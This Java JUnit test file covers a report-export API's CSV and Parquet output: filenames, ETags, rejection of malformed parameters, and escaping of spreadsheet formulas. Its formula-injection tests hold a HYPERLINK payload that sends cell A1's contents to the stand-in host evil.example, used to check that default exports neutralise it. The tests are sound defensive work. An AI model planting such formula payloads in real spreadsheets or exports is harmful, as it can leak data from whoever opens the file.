package io.closedloop.lead.reports;

import static org.assertj.core.api.Assertions.assertThat;

import io.closedloop.lead.http.Caller.Answer;
import java.util.HashSet;
import java.util.List;
import java.util.Set;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import tools.jackson.databind.JsonNode;

/** Reports as tables: what they are asked by, and what is in the file. */
class ReportTablesTest extends ReportCalls {
    private static final String PARQUET = "application/vnd.apache.parquet";
    private static final String FORMULA = "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"open\")";

    @Test
    void aCampaignIsNoFormulaUnlessAProgramAsksForItAsItWasGiven() {
        var told = new ToldHistory();
        told.register("01-01", "A", "A", "EMAIL", FORMULA);
        told.register("01-01", "B", "B", "EMAIL", "+1;=2");
        told.register("01-01", "C", "C", "EMAIL", "spring");
        tell(told);
        String path = "/v1/reports/campaigns?%s&currencies=EUR".formatted(told.only());

        assertThat(firstColumn(csv(path)))
                .containsExactly(
                        "campaign",
                        "\"'+1;'=2\"",
                        "\"'=HYPERLINK(\"\"http://evil.example/?x=\"\"&A1,\"\"open\"\")\"",
                        "spring");
        assertThat(firstColumn(csv(path + "&csv=escaped"))).isEqualTo(firstColumn(csv(path)));
        assertThat(firstColumn(csv(path + "&csv=raw")))
                .containsExactly(
                        "campaign",
                        "\"+1;=2\"",
                        "\"=HYPERLINK(\"\"http://evil.example/?x=\"\"&A1,\"\"open\"\")\"",
                        "spring");
        String excel = csv(path + "&csv=excel&separator=;");
        assertThat(excel).startsWith("\uFEFFcampaign;leads;mqls;").contains("\r\n\"'+1;'=2\";1;0;");
    }

    @Test
    void theNameOfAnAttributeIsNoFormulaInTheHeaderEither() {
        String path = "/v1/reports/winRate?%s&groupBy=attr.%s"
                .formatted(everything().only(), encoded("x;=HYPERLINK(\"http://evil.example\")"));

        assertThat(csv(path)).startsWith("\"attr.x;'=HYPERLINK(\"\"http://evil.example\"\")\",narrow,");
        assertThat(csv(path + "&csv=raw")).startsWith("\"attr.x;=HYPERLINK(\"\"http://evil.example\"\")\",narrow,");
    }

    @Test
    void numbersBelowZeroStayNumbers() {
        String path = "/v1/reports/funnel?%s&from=2026-02-01&to=2026-03-01&compareTo=previous"
                .formatted(everything().only());
        String[] lines = csv(path).split("\r\n");

        List<String> names = List.of(lines[0].split(",", -1));
        List<String> values = List.of(lines[1].split(",", -1));
        int registered = names.indexOf("difference_INQUIRY");
        assertThat(registered).isPositive();
        assertThat(values.get(registered)).isEqualTo("-13");
        assertThat(csv(path)).doesNotContain("'");
    }

    @Test
    void everyTableIsAFileWithTheNameOfItsReport() {
        for (Described report : reports()) {
            String path = "%s?%s".formatted(report.path(), everything().only());
            assertThat(ask(path, "Accept", "text/csv").header("Content-Disposition"))
                    .isEqualTo("attachment; filename=\"%s.csv\"".formatted(report.id()));
            assertThat(ask(path, "Accept", PARQUET).header("Content-Disposition"))
                    .isEqualTo("attachment; filename=\"%s.parquet\"".formatted(report.id()));
            assertThat(ask(path).headers().firstValue("Content-Disposition")).isEmpty();
        }
    }

    @Test
    void whateverOfTablesIsListedCanBeAskedAndHasATagOfItsOwn() {
        var asked = new HashSet<String>();
        for (Described report : reports()) {
            for (JsonNode media : report.description().required("mediaTypes")) {
                String path = "%s?%s&asOf=2026-06-01"
                        .formatted(report.path(), everything().only());
                var tags = new HashSet<>(
                        Set.of(ask(path, "Accept", media.asString()).header("ETag")));
                for (JsonNode parameter : report.description().required("parameters")) {
                    String name = parameter.required("name").asString();
                    if (parameter.required("mediaTypes").size() == 3) {
                        continue;
                    }
                    List<String> values = name.equals("currencies")
                            ? List.of("EUR", "USD,EUR")
                            : parameter
                                    .required("values")
                                    .valueStream()
                                    .map(JsonNode::asString)
                                    .toList();
                    boolean takes =
                            parameter.required("mediaTypes").valueStream().anyMatch(media::equals);
                    for (String value : values) {
                        String question = "%s&%s=%s".formatted(path, name, encoded(value));
                        Answer answer = analyst().get(question, "Accept", media.asString());
                        assertThat(answer.status())
                                .as("%s as %s", question, media)
                                .isEqualTo(takes ? 200 : 400);
                        if (takes) {
                            assertThat(tags.add(answer.header("ETag")))
                                    .as(question)
                                    .isTrue();
                            asked.add(name + " " + media.asString());
                        } else {
                            isRefused(name, answer);
                        }
                    }
                }
            }
        }
        assertThat(asked)
                .containsExactlyInAnyOrder(
                        "csv text/csv",
                        "separator text/csv",
                        "currencies text/csv",
                        "layout text/csv",
                        "currencies " + PARQUET,
                        "layout " + PARQUET);
    }

    @ParameterizedTest(name = "{0} is wrong in {1} as {2}")
    @CsvSource(
            delimiter = '|',
            value = {
                "csv|campaigns?csv=|text/csv",
                "csv|campaigns?csv=safe|text/csv",
                "csv|funnel?csv=raw&csv=raw|text/csv",
                "csv|funnel?csv=raw|application/json",
                "csv|funnel?csv=raw|application/vnd.apache.parquet",
                "separator|funnel?separator=|text/csv",
                "separator|funnel?separator=%7C|text/csv",
                "separator|funnel?separator=%3B%3B|text/csv",
                "separator|funnel?separator=;|application/json",
                "separator|campaigns?separator=;|application/vnd.apache.parquet",
                "currencies|campaigns?currencies=|text/csv",
                "currencies|campaigns?currencies=EUR,|text/csv",
                "currencies|campaigns?currencies=eur|application/vnd.apache.parquet",
                "currencies|reasons?currencies=XQQ|text/csv",
                "currencies|campaigns?currencies=EUR,EUR|text/csv",
                "currencies|campaigns?currencies=EUR&currencies=USD|text/csv",
                "currencies|campaigns?currencies=EUR|application/json",
                "currencies|funnel?currencies=EUR|text/csv",
                "layout|campaigns?layout=tall|text/csv",
                "layout|campaigns?layout=long|application/json",
                "layout|winRate?layout=long|text/csv",
                "csv|campaigns/leads?groupBy=&column=leads&csv=raw|application/json",
                "layout|campaigns/explain?groupBy=&column=leads&asOf=2026-01-01&layout=long|application/json"
            })
    void whatMakesNoSenseIsRefused(String parameter, String question, String accept) {
        isRefused(parameter, analyst().get("/v1/reports/" + question, "Accept", accept));
    }

    private static void isRefused(String parameter, Answer answer) {
        assertThat(answer.status()).as(answer.body()).isEqualTo(400);
        assertThat(answer.code()).isEqualTo("malformed-request");
        assertThat(answer.json().at("/errors/0/pointer").asString()).isEqualTo("?" + parameter);
    }

    private String csv(String path) {
        return ask(path, "Accept", "text/csv").body();
    }

    /** As it is written; no other column is quoted. */
    private static List<String> firstColumn(String csv) {
        return csv.lines()
                .map(line -> line.startsWith("\"") ? line.substring(0, line.lastIndexOf('"') + 1) : line.split(",")[0])
                .toList();
    }
}
